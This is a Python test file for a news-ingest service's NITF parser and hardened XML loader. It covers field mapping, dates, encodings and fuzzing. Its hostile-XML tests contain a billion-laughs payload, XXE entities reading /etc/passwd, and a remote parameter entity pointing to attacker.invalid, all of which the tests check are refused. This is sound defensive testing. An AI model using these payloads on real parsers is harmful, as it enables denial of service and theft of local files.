"""The NITF parser and the safe XML loader: goldens, error locations, hostile XML, encodings, fuzzing.

Regenerate the goldens after a deliberate mapping change with
`XML_FORMATS_REGENERATE=1 .venv/bin/python -m pytest tests/unit/test_nitf.py tests/unit/test_newsml_g2.py`,
then read the diff.
"""

from __future__ import annotations

import dataclasses
import json
import os
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from schemas.article import ArticleSubmission
from services.ingest.formats.errors import FormatError
from services.ingest.formats.items import ParsedItem, Skipped, Withdrawal
from services.ingest.formats.nitf import feed_datetime, nitf_body, parse_nitf
from services.ingest.formats.safe_xml import parse_xml

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "formats" / "nitf"
DOCUMENTS = sorted(FIXTURES.glob("*.xml"))
NITF_NS = "http://iptc.org/std/NITF/2006-10-18/"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<nitf><head><title>&lol9;</title><docdata><date.issue norm="20250101"/></docdata></head>
<body><body.content><p>&lol9;</p></body.content></body></nitf>
"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><head><title>Leak</title><docdata><date.issue norm="20250101"/></docdata></head>
<body><body.content><p>&secret;</p></body.content></body></nitf>
"""


def as_json(item: ParsedItem) -> dict[str, Any]:
    """One entry as a golden file holds it: the article dump, or a tagged withdrawal or error."""
    if isinstance(item, ArticleSubmission):
        said = [w.model_dump() for w in item.warnings]
        return {**item.model_dump(mode="json"), **({"ingest_warnings": said} if said else {})}
    if isinstance(item, Withdrawal):
        fields = dataclasses.asdict(item)
        fields["published_at"] = item.published_at.isoformat() if item.published_at else None
        return {"withdrawal": fields}
    if isinstance(item, Skipped):
        return {"skipped": {"reason": item.reason, "location": item.location}}
    return {"error": {"message": item.message, "location": item.location}}


def check_golden(got: list[ParsedItem], golden: Path) -> None:
    entries = [as_json(item) for item in got]
    if os.environ.get("XML_FORMATS_REGENERATE"):
        golden.write_text(json.dumps(entries, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    assert entries == json.loads(golden.read_text(encoding="utf-8"))


def nitf(head: str = "", body_head: str = "", content: str = "<p>Text.</p>", attributes: str = "") -> bytes:
    """A small NITF document; the default one parses to an article."""
    head = head or '<docdata><doc-id id-string="t-1"/><date.issue norm="20250427T121827Z"/></docdata>'
    body_head = body_head or "<hedline><hl1>Tide tables reprinted</hl1></hedline>"
    return (
        f"<nitf{attributes}><head>{head}</head><body><body.head>{body_head}</body.head>"
        f"<body.content>{content}</body.content></body></nitf>"
    ).encode()


def only(items: list[ParsedItem]) -> ParsedItem:
    assert len(items) == 1
    return items[0]


# --- goldens -----------------------------------------------------------------------------------------


def test_there_is_a_fixture_for_each_case() -> None:
    assert {p.stem for p in DOCUMENTS} >= {"lighthouse_plain", "orchard_withheld", "quay_latin1_undeclared"}


def test_undeclared_latin1_nitf_is_guessed_and_said() -> None:
    data = (FIXTURES / "quay_latin1_undeclared.xml").read_bytes()
    article = only(parse_nitf(data))
    assert isinstance(article, ArticleSubmission)
    assert article.headline == "Guindastes elétricos chegam ao cais norte de São Brás"  # hl1, not <title>
    assert article.subheadline is None  # the hl2 only repeats hl1
    assert [(b.name, b.role) for b in article.bylines] == [
        ("INÊS MARLOW", "Correspondente da Agência do Cais")
    ]
    assert article.language == "pt-PT"  # baselang
    assert [w.code for w in article.warnings] == ["charset-guessed"]
    declared = only(parse_nitf(data, charset="iso-8859-1"))
    assert isinstance(declared, ArticleSubmission)
    assert declared.headline == article.headline
    assert declared.warnings == []


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda p: p.stem)
def test_golden(path: Path) -> None:
    check_golden(parse_nitf(path.read_bytes()), path.with_suffix(".expected.json"))


def test_namespaced_and_plain_markup_read_the_same() -> None:
    plain = (FIXTURES / "lighthouse_plain.xml").read_bytes()
    namespaced = plain.replace(b"<nitf version=", f'<nitf xmlns="{NITF_NS}" version='.encode())
    assert namespaced != plain
    assert parse_nitf(namespaced) == parse_nitf(plain)


def test_lighthouse_mapping_details() -> None:
    article = only(parse_nitf((FIXTURES / "lighthouse_plain.xml").read_bytes()))
    assert isinstance(article, ArticleSubmission)
    assert article.body[0].startswith("A lighthouse that stood dark")  # lede dateline cut off
    assert article.body_html is not None
    assert "\u2014" in article.body_html  # &mdash; from the (unloaded) DTD resolved
    for gone in ("script", "onclick", "alert", "lamp room before repairs"):
        assert gone not in article.body_html
    assert article.bylines[0].name == "Maren Tolliver"
    assert article.bylines[0].role == "Coastal Affairs Writer"
    assert article.revision == 2
    assert article.tags == ["lighthouses", "volunteers", "Heritage"]


def test_nitf_body_takes_nitf_body_or_body_content() -> None:
    root = parse_xml(nitf(content="<p>One.</p><block><p>Two &amp; <em>three</em>.</p></block>"), None)
    content = root.find("body/body.content")
    assert content is not None
    expected = (["One.", "Two & three."], "<p>One.</p>\n<p>Two &amp; <em>three</em>.</p>")
    assert nitf_body(root) == expected
    assert nitf_body(content) == expected


# --- mapping details -----------------------------------------------------------------------------


def test_byline_text_without_person_elements_is_split() -> None:
    article = only(
        parse_nitf(nitf(body_head="<hedline><hl1>H</hl1></hedline><byline>By Ana Ruiz and Bo Li</byline>"))
    )
    assert isinstance(article, ArticleSubmission)
    assert [(c.name, c.role) for c in article.bylines] == [("Ana Ruiz", "writer"), ("Bo Li", "writer")]


def test_title_is_the_headline_when_there_is_no_hl1() -> None:
    head = '<title>Ferry timetable changes</title><docdata><date.issue norm="20250427"/></docdata>'
    article = only(parse_nitf(nitf(head=head, body_head="<byline>By Ana Ruiz</byline>")))
    assert isinstance(article, ArticleSubmission)
    assert article.headline == "Ferry timetable changes"
    assert article.published_at == datetime(2025, 4, 27, tzinfo=ZoneInfo("UTC"))
    assert article.source.name == "NITF"


def test_kill_message_is_a_withdrawal() -> None:
    head = (
        '<docdata><doc-id id-string="k-9"/><date.issue norm="20250427T121827+0200"/>'
        '<ed-msg msg-type="kill" info="Kill this story."/></docdata><pubdata name="Quay Daily"/>'
    )
    withdrawal = only(parse_nitf(nitf(head=head)))
    assert withdrawal == Withdrawal(
        source="Quay Daily",
        headline="Tide tables reprinted",
        published_at=datetime(2025, 4, 27, 10, 18, 27, tzinfo=UTC),
        reason="ed-msg kill",
        feed_item_id="k-9",
        revision=1,
    )


def test_language_comes_from_xml_lang() -> None:
    article = only(parse_nitf(nitf(attributes=' xml:lang="pt_BR"')))
    assert isinstance(article, ArticleSubmission)
    assert article.language == "pt-BR"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("20250427T121827Z", datetime(2025, 4, 27, 12, 18, 27, tzinfo=UTC)),
        ("20250427T121827+0000", datetime(2025, 4, 27, 12, 18, 27, tzinfo=UTC)),
        ("20250427T141827+0200", datetime(2025, 4, 27, 12, 18, 27, tzinfo=UTC)),
        ("2025-04-27T12:18:27.5-03:30", datetime(2025, 4, 27, 15, 48, 27, 500000, tzinfo=UTC)),
        ("2025-04-27T12:18:27+05", datetime(2025, 4, 27, 7, 18, 27, tzinfo=UTC)),
        ("20250427", datetime(2025, 4, 26, 22, 0, tzinfo=UTC)),  # midnight in Berlin (CEST)
        ("2025-04-27T12:18:27", datetime(2025, 4, 27, 10, 18, 27, tzinfo=UTC)),
    ],
)
def test_feed_datetimes(value: str, expected: datetime) -> None:
    got = feed_datetime(value, ZoneInfo("Europe/Berlin"), "here")
    assert got.tzinfo is not None
    assert got == expected


def test_naive_offsets_and_zones_keep_their_offset() -> None:
    got = feed_datetime("20250427T121827-0500", ZoneInfo("UTC"), "here")
    assert got.utcoffset() == timezone(timedelta(hours=-5)).utcoffset(None)


@pytest.mark.parametrize("value", ["27/04/2025", "20251327", "20250427T251827Z", "20250427T121827+2500", ""])
def test_unreadable_datetimes_say_where(value: str) -> None:
    with pytest.raises(FormatError) as caught:
        feed_datetime(value, ZoneInfo("UTC"), "/nitf/head/docdata/date.issue/@norm")
    assert caught.value.location == "/nitf/head/docdata/date.issue/@norm"


# --- errors --------------------------------------------------------------------------------------


def test_broken_xml_raises_with_its_line() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(b"<nitf>\n<head>\n<title>Open</head>\n</nitf>")
    assert caught.value.location == "line 3"
    assert caught.value.message.startswith("not well-formed XML")


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all", b"\xff\xfe\x00"])
def test_unreadable_documents_raise(data: bytes) -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(data)
    assert caught.value.location is not None


def test_other_xml_is_not_nitf() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(b"<rss><channel/></rss>")
    assert (caught.value.message, caught.value.location) == (
        "not a NITF document: the root element is <rss>",
        "document",
    )


def test_unknown_source_time_zone_is_a_settings_error() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(nitf(), source_timezone="Mars/Olympus")
    assert caught.value.location == "settings"


def test_only_a_document_without_headline_and_text_is_refused() -> None:
    error = only(parse_nitf(nitf(body_head="<hedline/>", content='<media media-type="image"/>')))
    assert isinstance(error, FormatError)
    assert (error.message, error.location) == (
        "no headline and no body text: the document holds no article",
        "/nitf/body/body.head/hedline/hl1",
    )


# A secondary field that cannot be read is repaired, and the article says how (code, field).
@pytest.mark.parametrize(
    ("document", "said", "check"),
    [
        (
            nitf(body_head="<hedline><hl2>Only a deck</hl2></hedline>"),
            ("headline-missing", "headline"),
            ("headline", "Text."),
        ),
        (
            nitf(head='<docdata><date.issue norm="yesterday"/></docdata>'),
            ("date-unreadable", "published_at"),
            ("published_at", None),
        ),
        (
            nitf(head='<docdata><date.issue norm="20250101"/><du-key version="two"/></docdata>'),
            ("field-invalid", "revision"),
            ("revision", 1),
        ),
        (
            nitf(content='<media media-type="image"/>'),
            ("body-missing", "body"),
            ("body", ["Tide tables reprinted"]),
        ),
        (
            nitf(attributes=' xml:lang="English!"'),
            ("field-invalid", "language"),
            ("language", None),
        ),
    ],
)
def test_repairs_are_said(document: bytes, said: tuple[str, str], check: tuple[str, object]) -> None:
    article = only(parse_nitf(document))
    assert isinstance(article, ArticleSubmission)
    assert [(w.code, w.field) for w in article.warnings] == [said]
    assert getattr(article, check[0]) == check[1]


def test_no_date_at_all_is_left_to_ingest() -> None:
    article = only(parse_nitf(nitf(head="<docdata/>")))
    assert isinstance(article, ArticleSubmission)
    assert article.published_at is None  # ingest uses the time received and says so
    assert article.warnings == []


# --- hostile XML ---------------------------------------------------------------------------------


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_entity_declarations_are_refused_before_expansion(document: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(FormatError) as caught:
        parse_nitf(document)
    assert (caught.value.message, caught.value.location) == (
        "entity declarations are not allowed",
        "document",
    )
    assert "root:" not in str(caught.value)
    assert time.monotonic() - started < 1


def test_entity_declarations_in_utf16_are_refused_too() -> None:
    document = XXE.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    with pytest.raises(FormatError, match="entity declarations are not allowed"):
        parse_nitf(document)


def test_parameter_entities_are_refused() -> None:
    document = b'<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><nitf/>'
    with pytest.raises(FormatError, match="entity declarations are not allowed"):
        parse_nitf(document)


def test_a_doctype_without_declarations_is_read_without_loading_it() -> None:
    document = b'<!DOCTYPE nitf SYSTEM "file:///etc/passwd">' + nitf(content="<p>A&mdash;B &unknown; C</p>")
    article = only(parse_nitf(document))
    assert isinstance(article, ArticleSubmission)
    assert article.body == ["A\u2014B C"]


# --- encodings -----------------------------------------------------------------------------------


LATIN1 = (
    '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    '<nitf><head><docdata><date.issue norm="20250427"/></docdata></head>'
    "<body><body.head><hedline><hl1>Caf\u00e9 na pra\u00e7a reabre</hl1></hedline></body.head>"
    "<body.content><p>O caf\u00e9 da pra\u00e7a voltou, diz o dono \u00c1lvaro.</p></body.content>"
    "</body></nitf>"
).encode("iso-8859-1")


@pytest.mark.parametrize("charset", [None, "iso-8859-1", "utf-8"])
def test_latin1_document_with_a_declaration(charset: str | None) -> None:
    """The XML declaration wins over a Content-Type charset that disagrees with it."""
    article = only(parse_nitf(LATIN1, charset=charset))
    assert isinstance(article, ArticleSubmission)
    assert article.headline == "Caf\u00e9 na pra\u00e7a reabre"
    assert article.body == ["O caf\u00e9 da pra\u00e7a voltou, diz o dono \u00c1lvaro."]


def test_declared_charset_is_used_when_the_document_has_no_declaration() -> None:
    document = nitf(content="<p>Sm\u00f8rrebr\u00f8d</p>").decode().encode("iso-8859-1")
    article = only(parse_nitf(document, charset="ISO-8859-1"))
    assert isinstance(article, ArticleSubmission)
    assert article.body == ["Sm\u00f8rrebr\u00f8d"]


def test_windows_1252_sent_as_utf8_is_read_as_windows_1252() -> None:
    document = nitf(content="<p>\u201cQuoted\u201d</p>").decode().encode("cp1252")
    article = only(parse_nitf(document, charset="utf-8"))
    assert isinstance(article, ArticleSubmission)
    assert article.body == ["\u201cQuoted\u201d"]


def test_unknown_declared_charset_is_a_content_type_error() -> None:
    with pytest.raises(FormatError) as caught:
        parse_nitf(nitf(), charset="klingon-8")
    assert caught.value.location == "Content-Type"


# --- fuzzing -------------------------------------------------------------------------------------

_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
_XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)
Mutation = Callable[[bytes], bytes]


@st.composite
def mutations(draw: st.DrawFn) -> Mutation:
    """One random damage to a document: truncation, a deleted element, new text or inserted bytes."""
    kind = draw(st.sampled_from(["truncate", "delete", "retext", "insert"]))
    position = draw(st.floats(min_value=0, max_value=1))
    noise = draw(st.binary(min_size=1, max_size=20) if kind == "insert" else _XML_TEXT)

    def mutate(data: bytes) -> bytes:
        at = int(position * len(data))
        if kind == "truncate":
            return data[:at]
        if kind == "insert":
            assert isinstance(noise, bytes)
            return data[:at] + noise + data[at:]
        try:
            root = etree.fromstring(data, _PARSER)
        except etree.XMLSyntaxError:
            return data
        elements = [e for e in root.iter() if isinstance(e.tag, str)]
        target = elements[int(position * (len(elements) - 1))]
        parent = target.getparent()
        if kind == "delete" and parent is not None:
            parent.remove(target)
        elif kind == "retext":
            target.text = str(noise)
        return bytes(etree.tostring(root))

    return mutate


def fuzz(parse: Callable[[bytes], list[ParsedItem]], document: bytes, damage: list[Mutation]) -> None:
    for mutate in damage:
        document = mutate(document)
    try:
        items = parse(document)
    except FormatError:
        return
    assert isinstance(items, list)
    for item in items:
        assert isinstance(item, ArticleSubmission | Withdrawal | Skipped | FormatError)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(DOCUMENTS), st.lists(mutations(), min_size=1, max_size=3))
def test_mutated_documents_give_items_or_format_errors(path: Path, damage: list[Mutation]) -> None:
    fuzz(parse_nitf, path.read_bytes(), damage)
